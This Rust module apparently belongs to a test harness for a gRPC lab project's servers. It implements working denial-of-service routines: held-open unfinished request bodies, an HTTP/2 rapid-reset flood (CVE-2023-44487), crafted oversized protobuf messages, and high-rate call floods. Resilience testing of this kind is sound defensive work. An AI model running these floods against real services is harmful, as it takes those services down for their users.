//! Request floods: bodies that never finish, rapid reset, oversized messages, and many calls at a
//! rate or as fast as the server answers.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::{BufMut, Bytes, BytesMut};
use tokio::task::JoinHandle;

use super::grpc::{CallError, Conn, Tally, frame, read_unary, transport};
use super::services::path;

/// Requests whose bodies never finish, held open by the attacker.
pub struct Unfinished {
    conns: Vec<Conn>,
    streams: Vec<h2::SendStream<Bytes>>,
    answers: Arc<Mutex<Tally>>,
    tasks: Vec<JoinHandle<()>>,
    /// Streams opened and partly sent.
    pub opened: usize,
    /// Streams that could not be opened (no room under the server's stream limit in time, or the
    /// connection failed).
    pub not_opened: usize,
}

impl Unfinished {
    /// How the requests the server has answered so far ended (the others are still waiting).
    pub fn answered(&self) -> Tally {
        self.answers.lock().map(|t| t.clone()).unwrap_or_default()
    }

    /// Connections the server has closed.
    pub fn closed_conns(&self) -> usize {
        self.conns.iter().filter(|c| c.is_closed()).count()
    }

    /// Streams still held.
    pub fn streams(&self) -> usize {
        self.streams.len()
    }
}

impl Drop for Unfinished {
    fn drop(&mut self) {
        for t in &self.tasks {
            t.abort();
        }
    }
}

/// Opens `conns` connections with `streams_per_conn` requests each to `path`, each sending the gRPC
/// prefix of a message of `declared` bytes and then `body_bytes` bytes of it, never the rest and never
/// the end of the stream. Each step has `within`.
pub async fn unfinished_bodies(
    addr: &str,
    path: &str,
    conns: usize,
    streams_per_conn: usize,
    body_bytes: usize,
    declared: u32,
    within: Duration,
) -> Unfinished {
    let mut body = BytesMut::with_capacity(body_bytes + 5);
    body.put_u8(0);
    body.put_u32(declared);
    body.put_bytes(0x08, body_bytes);
    let body = body.freeze();
    let answers = Arc::new(Mutex::new(Tally::default()));
    let mut out =
        Unfinished { conns: Vec::new(), streams: Vec::new(), answers: answers.clone(), tasks: Vec::new(), opened: 0, not_opened: 0 };
    for _ in 0..conns {
        let conn = match Conn::connect(addr, within).await {
            Ok(c) => c,
            Err(_) => {
                out.not_opened += streams_per_conn;
                continue;
            }
        };
        for _ in 0..streams_per_conn {
            match conn.open(path, body.clone(), false, within).await {
                Ok((response, stream)) => {
                    out.opened += 1;
                    out.streams.push(stream);
                    let answers = answers.clone();
                    out.tasks.push(tokio::spawn(async move {
                        let result = match response.await {
                            Ok(r) => read_unary(r).await.map(|_| ()),
                            Err(e) => Err(transport(e)),
                        };
                        if let Ok(mut t) = answers.lock() {
                            t.add(&result);
                        }
                    }));
                }
                Err(_) => out.not_opened += 1,
            }
        }
        out.conns.push(conn);
    }
    out
}

/// What a rapid-reset flood did.
#[derive(Debug, Clone, Default)]
pub struct RapidReset {
    /// Requests opened and at once cancelled.
    pub reset: usize,
    /// Connections the server closed (it answers such a flood with GOAWAY).
    pub closed: usize,
    pub conns: usize,
}

/// HTTP/2 rapid reset (CVE-2023-44487): on each of `conns` connections, opens `per_conn` requests to
/// `path` and cancels each at once (RST_STREAM), never waiting for an answer; stops on a connection the
/// server closed. Each step has `within`.
pub async fn rapid_reset(addr: &str, path: &str, conns: usize, per_conn: usize, within: Duration) -> RapidReset {
    let mut out = RapidReset { conns, ..RapidReset::default() };
    let message = frame(&[]);
    for _ in 0..conns {
        let Ok(conn) = Conn::connect(addr, within).await else { continue };
        for _ in 0..per_conn {
            match conn.open(path, message.clone(), true, within).await {
                Ok((_, mut stream)) => {
                    stream.send_reset(h2::Reason::CANCEL);
                    out.reset += 1;
                }
                Err(_) => break,
            }
            if conn.is_closed() {
                break;
            }
        }
        // Give the server a moment to answer the last resets.
        tokio::time::sleep(Duration::from_millis(20)).await;
        if conn.is_closed() {
            out.closed += 1;
        }
    }
    out
}

/// What an oversized message pretends to be.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Oversized {
    /// A `RingElection` whose `ids` fill the message (as id 1, one byte each).
    RingElection,
    /// A `Register` whose name fills the message.
    Register,
    /// A `Register` whose address fills the message (name "KMC").
    RegisterAddress,
}

/// The path and encoded bytes of a message of about `bytes` bytes (within a few bytes).
pub fn oversized(kind: Oversized, bytes: usize) -> (&'static str, Bytes) {
    fn put_varint(out: &mut BytesMut, mut v: u64) {
        while v >= 0x80 {
            out.put_u8((v as u8) | 0x80);
            v >>= 7;
        }
        out.put_u8(v as u8);
    }
    let mut out = BytesMut::with_capacity(bytes + 32);
    match kind {
        Oversized::RingElection => {
            // from = 1, term = 1, initiator = 1, to = 0, ids = [1, 1, ...] packed.
            out.put_slice(&[0x08, 0x01, 0x10, 0x01, 0x18, 0x01]);
            out.put_u8(0x22);
            put_varint(&mut out, bytes as u64);
            out.put_bytes(0x01, bytes);
            (path::RING_ELECTION, out.freeze())
        }
        Oversized::Register => {
            out.put_u8(0x0a);
            put_varint(&mut out, bytes as u64);
            out.put_bytes(b'x', bytes);
            out.put_slice(&[0x12, 11]);
            out.put_slice(b"127.0.0.1:9");
            (path::REGISTER, out.freeze())
        }
        Oversized::RegisterAddress => {
            out.put_slice(&[0x0a, 3]);
            out.put_slice(b"KMC");
            out.put_u8(0x12);
            put_varint(&mut out, bytes as u64);
            out.put_bytes(b'a', bytes.saturating_sub(2));
            out.put_slice(b":9");
            (path::REGISTER, out.freeze())
        }
    }
}

/// Calls with their outcomes and how long each took.
#[derive(Debug, Clone, Default)]
pub struct Flood {
    pub tally: Tally,
    pub latencies: Vec<Duration>,
    /// Status messages seen (one per distinct message, at most 16), for checking what errors echo.
    pub messages: Vec<String>,
    pub elapsed: Duration,
}

impl Flood {
    fn record(&mut self, result: &Result<Bytes, CallError>, took: Duration) {
        self.tally.add(result);
        self.latencies.push(took);
        if let Err(CallError::Status(s)) = result
            && self.messages.len() < 16
            && !self.messages.contains(&s.message)
        {
            self.messages.push(s.message.clone());
        }
    }

    /// The longest status message seen, in bytes.
    pub fn longest_message(&self) -> usize {
        self.messages.iter().map(String::len).max().unwrap_or(0)
    }
}

/// Sends `count` copies of `message` to `path` at `per_second` (each call started on schedule, at most
/// `parallel` in flight over up to 8 connections). Each call has `within`.
pub async fn send_at_rate(
    addr: &str,
    path: &'static str,
    message: Bytes,
    count: usize,
    per_second: f64,
    parallel: usize,
    within: Duration,
) -> Result<Flood, CallError> {
    let gap = Duration::from_secs_f64(1.0 / per_second.max(0.001));
    calls(addr, path, &[message], count, Some(gap), parallel, parallel.clamp(1, 8), within).await
}

/// Sends `count` requests to `path`, cycling through `messages`, at most `parallel` at a time (32 per
/// connection). Each call has `within`.
pub async fn flood(
    addr: &str,
    path: &'static str,
    messages: &[Bytes],
    count: usize,
    parallel: usize,
    within: Duration,
) -> Result<Flood, CallError> {
    calls(addr, path, messages, count, None, parallel, parallel.div_ceil(32).max(1), within).await
}

#[allow(clippy::too_many_arguments)]
async fn calls(
    addr: &str,
    path: &'static str,
    messages: &[Bytes],
    count: usize,
    gap: Option<Duration>,
    parallel: usize,
    n_conns: usize,
    within: Duration,
) -> Result<Flood, CallError> {
    let mut conns = Vec::with_capacity(n_conns);
    for _ in 0..n_conns {
        conns.push(Arc::new(Conn::connect(addr, within).await?));
    }
    let limit = Arc::new(tokio::sync::Semaphore::new(parallel.max(1)));
    let started = tokio::time::Instant::now();
    let mut tasks = Vec::with_capacity(count);
    for i in 0..count {
        if let Some(gap) = gap {
            tokio::time::sleep_until(started + gap * i as u32).await;
        }
        let Some(message) = messages.get(i % messages.len().max(1)).cloned() else { break };
        let Ok(permit) = limit.clone().acquire_owned().await else { break };
        let conn = conns[i % n_conns].clone();
        tasks.push(tokio::spawn(async move {
            let at = Instant::now();
            let result = conn.call_raw(path, message, within).await;
            drop(permit);
            (result, at.elapsed())
        }));
    }
    let mut flood = Flood::default();
    for task in tasks {
        if let Ok((result, took)) = task.await {
            flood.record(&result, took);
        }
    }
    flood.elapsed = started.elapsed();
    Ok(flood)
}

#[cfg(test)]
mod tests {
    use prost::Message;
    use synclab::proto::berkeley as berkeley_pb;
    use synclab::proto::election as election_pb;

    use super::*;

    /// Pins that an oversized message is a valid message of the kind it pretends to be, of the size asked.
    #[test]
    fn oversized_messages_decode_as_what_they_pretend_to_be() {
        let (p, bytes) = oversized(Oversized::RingElection, 1000);
        assert_eq!(p, path::RING_ELECTION);
        let m = election_pb::RingElectionRequest::decode(bytes).unwrap();
        assert_eq!((m.from, m.term, m.initiator, m.ids.len()), (1, 1, 1, 1000));
        let (_, bytes) = oversized(Oversized::Register, 300);
        let m = berkeley_pb::RegisterRequest::decode(bytes).unwrap();
        assert_eq!((m.name.len(), m.address.as_str()), (300, "127.0.0.1:9"));
        let (_, bytes) = oversized(Oversized::RegisterAddress, 300);
        let m = berkeley_pb::RegisterRequest::decode(bytes).unwrap();
        assert_eq!((m.name.as_str(), m.address.len()), ("KMC", 300));
    }
}
